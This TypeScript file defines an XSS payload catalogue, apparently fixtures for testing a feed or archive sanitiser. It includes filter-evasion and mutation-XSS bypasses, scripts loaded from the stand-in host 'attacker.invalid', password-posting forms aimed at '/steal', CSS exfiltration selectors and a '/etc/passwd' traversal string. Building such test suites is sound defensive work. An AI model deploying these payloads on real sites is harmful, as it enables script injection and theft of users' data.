/**
 * Attack vectors for the XSS suite: each one goes into its own post of a generated archive.
 * Payloads that would run call `alert(1)`, set `window.__xss`, or contact the attacker host;
 * any of these in the browser counts as the vector having executed. Legitimate-looking remote
 * images use `img.invalid`, never the attacker host, so a request to the attacker host is
 * always a breach. Sources: OWASP's XSS filter evasion cheat sheet, PortSwigger's XSS cheat
 * sheet, and published DOMPurify / mutation-XSS bypasses.
 */

export const ATTACKER_HOST = 'attacker.invalid';
const A = `https://${ATTACKER_HOST}`;

export interface XssVector {
  family: string;
  /** Short label, unique within the family. */
  name: string;
  /** Body HTML as the feed would write it (default: a harmless paragraph). */
  body?: string;
  title?: string;
  category?: string;
  author?: string;
  thumbnail?: string;
}

type Entry = [name: string, payload: string];
const family = (name: string, field: 'body' | 'title' | 'category' | 'author' | 'thumbnail', entries: Entry[]): XssVector[] =>
  entries.map(([label, payload]) => ({ family: name, name: label, [field]: payload }));

const scripts = family('script', 'body', [
  ['plain', '<script>alert(1)</script>'],
  ['upper case', '<SCRIPT>alert(1)</SCRIPT>'],
  ['mixed case', '<scRipT>alert(1)</sCriPt>'],
  ['remote src', `<script src="${A}/x.js"></script>`],
  ['slash instead of space', `<script/src="${A}/x.js"></script>`],
  ['protocol-relative src', `<script async src=//${ATTACKER_HOST}/a.js></script>`],
  ['space before >', '<script >alert(1)</script >'],
  ['form feed after name', '<script\x0c>alert(1)</script>'],
  ['split by an inner script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['doubled <', '<<script>alert(1);//<</script>'],
  ['unclosed', '<p>a</p><script>alert(1)'],
  ['type text/javascript', '<script type="text/javascript">alert(1)</script>'],
  ['type module', '<script type="module">window.__xss = 1</script>'],
  ['defer', '<script defer>window.__xss = 1</script>'],
  ['base64 eval', "<script>eval(atob('YWxlcnQoMSk='))</script>"],
  ['unicode escape', '<script>\\u0061lert(1)</script>'],
  ['document.write', `<script>document.write('<img src=${A}/w>')</script>`],
  ['script created by a handler', `<img src=x onerror="var s=document.createElement('script');s.src='${A}/s.js';document.body.appendChild(s)">`],
  ['utf-7', '<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>'],
  ['inside svg', '<svg><script>alert(1)</script></svg>'],
  ['svg href', `<svg><script href="${A}/x.js"/></svg>`],
  ['svg xlink:href data', '<svg><script xlink:href="data:,alert(1)"></script></svg>'],
  ['comment-wrapped', '<!--<script>-->alert(1)<!--</script>-->'],
  ['inside a table', '<table><tr><td><script>alert(1)</script></td></tr></table>'],
  ['entity-encoded inside', '<script>&#97;lert(1)</script>'],
]);

const handlers = family('event handler', 'body', [
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, no quotes, slashes', '<img/src=x/onerror=alert(1)>'],
  ['img onerror, mixed case', '<img src=x oNeRrOr=alert(1)>'],
  ['img onerror, newline before =', '<img src=x onerror\n=alert(1)>'],
  ['img onerror, entity-encoded code', '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>'],
  ['img onerror, backtick', '<img src=`x` onerror=alert(1)>'],
  ['img onerror eval(src)', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['img onload on a real image', '<img src="https://img.invalid/a.png" onload=alert(1)>'],
  ['onclick', '<p onclick=alert(1)>click</p>'],
  ['ondblclick', '<p ondblclick=alert(1)>dbl</p>'],
  ['onmouseover', '<b onmouseover=alert(1)>hover</b>'],
  ['onmouseenter', '<span onmouseenter=alert(1)>enter</span>'],
  ['onmousemove', '<div onmousemove=alert(1)>move</div>'],
  ['onmousedown / onmouseup', '<i onmousedown=alert(1) onmouseup=alert(1)>press</i>'],
  ['oncontextmenu', '<p oncontextmenu=alert(1)>menu</p>'],
  ['onwheel', '<p onwheel=alert(1)>wheel</p>'],
  ['onpointerover', '<p onpointerover=alert(1)>pointer</p>'],
  ['onpointerdown', '<p onpointerdown=alert(1)>pointer down</p>'],
  ['ontouchstart', '<p ontouchstart=alert(1)>touch</p>'],
  ['onkeydown', '<p contenteditable onkeydown=alert(1)>key</p>'],
  ['onkeypress', '<p contenteditable onkeypress=alert(1)>key press</p>'],
  ['autofocus onfocus input', '<input autofocus onfocus=alert(1)>'],
  ['autofocus onfocus link', '<a href="https://img.invalid/" autofocus onfocus=alert(1) tabindex=1>focus</a>'],
  ['onfocusin', '<p tabindex=1 autofocus onfocusin=alert(1)>focus in</p>'],
  ['onblur', '<input autofocus onblur=alert(1)><input autofocus>'],
  ['select onfocus', '<select autofocus onfocus=alert(1)><option>1</option></select>'],
  ['textarea onfocus', '<textarea autofocus onfocus=alert(1)>t</textarea>'],
  ['oninput', '<input oninput=alert(1) value=x>'],
  ['onchange', '<select onchange=alert(1)><option>a</option><option>b</option></select>'],
  ['oninvalid', '<form><input required oninvalid=alert(1)><button>go</button></form>'],
  ['onsubmit', '<form onsubmit=alert(1)><button>submit</button></form>'],
  ['onreset', '<form onreset=alert(1)><button type=reset>reset</button></form>'],
  ['onselect', '<input onselect=alert(1) value="select me">'],
  ['video onerror', '<video src=x onerror=alert(1)></video>'],
  ['audio onerror', '<audio src=x onerror=alert(1)></audio>'],
  ['source onerror', '<video><source src=x onerror=alert(1)></video>'],
  ['video onloadstart', '<video src="https://img.invalid/v.mp4" onloadstart=alert(1)></video>'],
  ['audio onplay autoplay', '<audio autoplay src="https://img.invalid/a.mp3" onplay=alert(1)></audio>'],
  ['body onload', '<body onload=alert(1)>'],
  ['body onpageshow', '<body onpageshow=alert(1)>'],
  ['body onhashchange', '<body onhashchange=alert(1)>'],
  ['body onresize', '<body onresize=alert(1)>'],
  ['body onmessage', '<body onmessage=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg/onload, no space', '<svg/onload=alert(1)>'],
  ['iframe onload', '<iframe onload=alert(1)></iframe>'],
  ['object onerror', '<object data=x onerror=alert(1)></object>'],
  ['style onload', '<style onload=alert(1)></style>'],
  ['link onload', `<link rel=stylesheet href="${A}/s.css" onload=alert(1)>`],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary>d</details>'],
  ['marquee onstart', '<marquee onstart=alert(1)>m</marquee>'],
  ['ondragstart', '<p draggable=true ondragstart=alert(1)>drag</p>'],
  ['ondrop', '<p ondrop=alert(1) ondragover=alert(1)>drop</p>'],
  ['oncopy / onpaste / oncut', '<p oncopy=alert(1) onpaste=alert(1) oncut=alert(1)>clip</p>'],
  ['onanimationstart', '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>anim</p>'],
  ['ontransitionend', '<p style="transition:color 1ms" ontransitionend=alert(1)>trans</p>'],
  ['onscroll', '<div style="overflow:auto;height:10px" onscroll=alert(1)><p>a</p><p>b</p></div>'],
  ['onbeforescriptexecute', '<p onbeforescriptexecute=alert(1)>x</p>'],
  ['input type=image onerror', '<input type=image src=x onerror=alert(1)>'],
  ['onfocus with tab entity', '<a href="#" onfocus&#x09;=alert(1) autofocus>f</a>'],
]);

const urls = family('url scheme', 'body', [
  ['javascript: link', '<a href="javascript:alert(1)">j</a>'],
  ['mixed-case scheme', '<a href="JaVaScRiPt:alert(1)">j</a>'],
  ['tab inside scheme', '<a href="java\tscript:alert(1)">j</a>'],
  ['tab entity inside scheme', '<a href="java&#x09;script:alert(1)">j</a>'],
  ['newline entity inside scheme', '<a href="java&#x0A;script:alert(1)">j</a>'],
  ['decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">j</a>'],
  ['zero-padded decimal entities', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">j</a>'],
  ['hex entity', '<a href="&#x6A;avascript:alert(1)">j</a>'],
  ['named colon entity', '<a href="javascript&colon;alert(1)">j</a>'],
  ['leading spaces and control characters', '<a href=" \x01 javascript:alert(1)">j</a>'],
  ['percent-encoded body', '<a href="javascript:%61lert(1)">j</a>'],
  ['entity in the middle', '<a href="jav&#x61;script:alert(1)">j</a>'],
  ['data:text/html link', '<a href="data:text/html,<script>alert(1)</script>">d</a>'],
  ['data:text/html;base64 link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">v</a>'],
  ['javascript: img src', '<img src="javascript:alert(1)">'],
  ['vbscript: img src', '<img src="vbscript:msgbox(1)">'],
  ['data: svg img src', '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">'],
  ['javascript: in srcset', '<img srcset="javascript:alert(1) 1x">'],
  ['javascript: video poster', '<video poster="javascript:alert(1)"></video>'],
  ['javascript: iframe src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['javascript: embed src', '<embed src="javascript:alert(1)">'],
  ['javascript: object data', '<object data="javascript:alert(1)"></object>'],
  ['javascript: area href', '<map name=m><area shape=rect coords=0,0,9,9 href="javascript:alert(1)"></map><img usemap=#m src=x>'],
  ['javascript: form action', '<form action="javascript:alert(1)"><button>go</button></form>'],
  ['javascript: formaction', '<button formaction="javascript:alert(1)">go</button>'],
  ['javascript: base href', '<base href="javascript:alert(1)//"><a href="x">rel</a>'],
  ['javascript: math href', '<math href="javascript:alert(1)">click</math>'],
  ['javascript: blockquote cite', '<blockquote cite="javascript:alert(1)">q</blockquote>'],
  ['javascript: background attribute', '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>'],
]);

const svg = family('svg', 'body', [
  ['animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['a xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>'],
  ['set href to javascript:', '<svg><a><set attributeName=href to="javascript:alert(1)"/><text x=20 y=20>X</text></a></svg>'],
  ['animate href values', '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text x=20 y=20>X</text></a></svg>'],
  ['foreignObject iframe', '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>'],
  ['use href data:', '<svg><use href="data:image/svg+xml,<svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22><image href=%221%22 onerror=%22alert(1)%22/></svg>#x"/></svg>'],
  ['image onerror', '<svg><image href=x onerror=alert(1)></svg>'],
  ['style @import', `<svg><style>@import url(${A}/s.css)</style></svg>`],
  ['discard onbegin', '<svg><discard onbegin=alert(1)>'],
  ['xml-events handler', '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">alert(1)</handler></svg>'],
  ['feImage remote', `<svg><filter><feImage href="${A}/f"/></filter></svg>`],
  ['title breakout', '<svg><title><img src=x onerror=alert(1)></title></svg>'],
]);

const mathml = family('mathml', 'body', [
  ['mglyph style breakout', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['maction xlink:href', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>'],
  ['a href in math', '<math><a href="javascript:alert(1)">m</a></math>'],
  ['mi xlink:href data', '<math><mi xlink:href="data:x,<script>alert(1)</script>">m</mi></math>'],
  ['mtext img', '<math><mtext><img src=x onerror=alert(1)></mtext></math>'],
  ['annotation-xml text/html', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>'],
  ['annotation-xml xhtml script', '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>alert(1)</script></annotation-xml></semantics></math>'],
  ['mglyph svg path textarea', '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></mi></math>'],
]);

const frames = family('frame', 'body', [
  ['iframe srcdoc script', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ['iframe srcdoc entity-encoded', '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>'],
  ['iframe remote', `<iframe src="${A}/frame"></iframe>`],
  ['iframe data:', '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>'],
  ['iframe sandbox allow-scripts', '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['portal', `<portal src="${A}/portal"></portal>`],
]);

const embeds = family('object/embed', 'body', [
  ['object remote', `<object data="${A}/x.swf"></object>`],
  ['object text/html data:', '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>'],
  ['embed remote', `<embed src="${A}/x.swf">`],
  ['embed svg data:', '<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">'],
  ['applet', `<applet code="x" codebase="${A}/"></applet>`],
  ['object param', '<object><param name=src value="javascript:alert(1)"></object>'],
]);

const documentLevel = family('document-level', 'body', [
  ['meta refresh javascript:', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['meta refresh remote', `<meta http-equiv="refresh" content="0;url=${A}/refresh">`],
  ['meta set-cookie', '<meta http-equiv="Set-Cookie" content="xss=1">'],
  ['meta CSP loosening', "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src * 'unsafe-inline'\">"],
  ['base href remote', `<base href="${A}/"><img src="rel.png"><a href="rel">rel</a>`],
  ['base target', '<base target="_top"><a href="https://img.invalid/">t</a>'],
  ['form action remote', `<form action="${A}/steal" method=post><input type=password name=p value=x><input type=submit></form>`],
  ['form autosubmit', `<form id=f action="${A}/auto"></form><img src=x onerror="document.getElementById('f').submit()">`],
  ['input formaction remote', `<input type=submit formaction="${A}/steal" value=go>`],
  ['isindex', '<isindex action="javascript:alert(1)" type=image>'],
  ['link rel=import', `<link rel=import href="${A}/import.html">`],
  ['link stylesheet', `<link rel=stylesheet href="${A}/s.css">`],
  ['link prefetch', `<link rel=prefetch href="${A}/prefetch">`],
  ['link preload script', `<link rel=preload as=script href="${A}/p.js">`],
  ['link modulepreload', `<link rel=modulepreload href="${A}/m.js">`],
]);

const css = family('css', 'body', [
  ['style @import', `<style>@import '${A}/i.css';</style>`],
  ['style background url', `<style>body{background:url(${A}/bg)}</style>`],
  ['style attribute background', `<p style="background-image:url(${A}/bg)">s</p>`],
  ['style attribute protocol-relative', `<p style="background:url(//${ATTACKER_HOST}/p)">s</p>`],
  ['expression()', '<p style="width:expression(alert(1))">e</p>'],
  ['behavior', '<p style="behavior:url(x.htc)">b</p>'],
  ['-moz-binding', `<p style="-moz-binding:url(${A}/x.xml#x)">m</p>`],
  ['attribute selector exfiltration', `<style>input[value^=a]{background:url(${A}/a)}</style><input value=abc>`],
  ['javascript: in url()', '<p style="background:url(&#34;javascript:alert(1)&#34;)">u</p>'],
  ['font-face remote', `<style>@font-face{font-family:x;src:url(${A}/f.woff)}</style><p style="font-family:x">f</p>`],
  ['full-page overlay', '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">overlay</div>'],
  ['page-wide restyle', '<style>*{display:none !important}</style>'],
  ['img style content', `<img src=x style="content:url(${A}/c)">`],
  ['data: stylesheet link', `<link rel=stylesheet href="data:text/css,*{background:url(${A}/d)}">`],
]);

const mutation = family('mutation xss', 'body', [
  ['noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['mglyph style comment', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'],
  ['svg p style id', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['form math mtext', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['template img', '<template><img src=x onerror=alert(1)></template>'],
  ['template script', '<template><script>alert(1)</script></template>'],
  ['style holding markup', '<style><img src=x onerror=alert(1)></style>'],
  ['empty style then img', '<style></style><img src=x onerror=alert(1)>'],
  ['xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['noembed title breakout', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['noframes title breakout', '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>'],
  ['iframe title breakout', '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>'],
  ['textarea title breakout', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['title element breakout', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'],
  ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  ['svg CDATA', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>'],
  ['bogus comment', '<!--><img src=x onerror=alert(1)>-->'],
  ['comment --!>', '<!-- --!><img src=x onerror=alert(1)>-->'],
  ['processing instruction', '<?xml-stylesheet href=x?><img src=x onerror=alert(1)>'],
  ['select template style', '<select><template><style><img src=x onerror=alert(1)></style></template></select>'],
  ['table style foster parenting', '<table><style><img src=x onerror=alert(1)></style></table>'],
  ['nested a in table', '<a><table><a></table><img src=x onerror=alert(1)>'],
]);

const clobbering = family('dom clobbering', 'body', [
  ['a id=location', `<a id="location" href="${A}/loc">l</a>`],
  ['form name=document', '<form name="document"><input name="cookie"></form>'],
  ['img name=getElementById', '<img name="getElementById" src="https://img.invalid/a.png">'],
  ['img name=querySelector', '<img name="querySelector" src="https://img.invalid/a.png">'],
  ['img id=__xss (the canary)', '<img id="__xss" src="https://img.invalid/a.png">'],
  ['double anchor x.y', `<a id=x></a><a id=x name=y href="${A}/xy">y</a>`],
  ['embed name=body', '<embed name="body">'],
  ['form name=attributes', '<form name="attributes"><input name="length"></form>'],
  ['iframe name=top', '<iframe name="top"></iframe>'],
  ['a id=__proto__', '<a id="__proto__" href="https://img.invalid/">p</a>'],
  ['img name=createElement', '<img name="createElement" src="https://img.invalid/a.png">'],
  ['a id=defaultView', `<a id="defaultView" href="${A}/dv">d</a>`],
  ['object name=alert', '<object name="alert"></object>'],
  ['input name=innerHTML', '<form><input name="innerHTML"></form>'],
]);

const braces = family('brace escape', 'body', [
  ['escaped script tag', '<p>&#60;script&#62;alert(1)&#60;/script&#62;</p>'],
  ['escaped img tag', '<p>&lt;img src=x onerror=alert(1)&gt;</p>'],
  ['double-escaped script', '<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>'],
  ['template injection', "<p>&#123;&#123;constructor.constructor('alert(1)')()&#125;&#125;</p>"],
  ['escaped svg', '<p>&#x3C;svg onload=alert(1)&#x3E;</p>'],
  ['hexo raw tag', '<p>&#123;% raw %&#125;<script>alert(1)</script>&#123;% endraw %&#125;</p>'],
  ['braces in a handler', '<img src=x onerror="&#123;alert(1)&#125;">'],
  ['braces in a style rule', `<style>p &#123; background:url(${A}/b) &#125;</style>`],
  ['braces in a javascript: URL', '<a href="javascript:&#123;alert(1)&#125;">b</a>'],
  ['template literal', '<p>${alert(1)}</p>'],
  ['escaped iframe srcdoc', '<p>&#60;iframe srcdoc=&#34;&#60;script&#62;parent.alert(1)&#60;/script&#62;&#34;&#62;</p>'],
]);

const titles = family('title', 'title', [
  ['script', '<script>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['entity-escaped svg', '&lt;svg onload=alert(1)&gt;'],
  ['attribute breakout', '"><script>alert(1)</script>'],
  ['title element breakout', '</title><script>alert(1)</script>'],
  ['javascript: URL', 'javascript:alert(1)'],
  ['brace-escaped template', "&#123;&#123;constructor.constructor('alert(1)')()&#125;&#125;"],
  ['iframe', '<iframe src=javascript:alert(1)>'],
  ['single-quote breakout', "' onmouseover='alert(1)"],
  ['brace-escaped script', '&#60;script&#62;alert(1)&#60;/script&#62;'],
]);

const categories = family('category', 'category', [
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['script', '<script>alert(1)</script>'],
  ['javascript: URL', 'javascript:alert(1)'],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['link markup', '<a href=javascript:alert(1)>c</a>'],
  ['entity-escaped svg', '&lt;svg/onload=alert(1)&gt;'],
  ['path traversal', '../../../etc/passwd'],
]);

const authors = family('author', 'author', [
  ['script', '<script>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['attribute breakout', '"><svg onload=alert(1)>'],
  ['javascript: URL', 'javascript:alert(1)'],
  ['entity-escaped handler', '&lt;b onmouseover=alert(1)&gt;x&lt;/b&gt;'],
  ['template', '{{constructor.constructor("alert(1)")()}}'],
]);

const thumbnails = family('thumbnail', 'thumbnail', [
  ['javascript:', 'javascript:alert(1)'],
  ['mixed-case javascript:', 'JaVaScRiPt:alert(1)'],
  ['tab inside javascript:', 'java\tscript:alert(1)'],
  ['entity-encoded javascript:', '&#106;avascript:alert(1)'],
  ['data:text/html', 'data:text/html,<script>alert(1)</script>'],
  ['data: svg', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['vbscript:', 'vbscript:msgbox(1)'],
  ['attribute breakout, relative', 'x" onerror="alert(1)'],
  ['attribute breakout, remote', 'https://img.invalid/t.png" onerror="alert(1)'],
  ['angle-bracket breakout', '"><img src=x onerror=alert(1)>'],
]);

export const XSS_VECTORS: XssVector[] = [
  ...scripts, ...handlers, ...urls, ...svg, ...mathml, ...frames, ...embeds, ...documentLevel,
  ...css, ...mutation, ...clobbering, ...braces, ...titles, ...categories, ...authors, ...thumbnails,
];
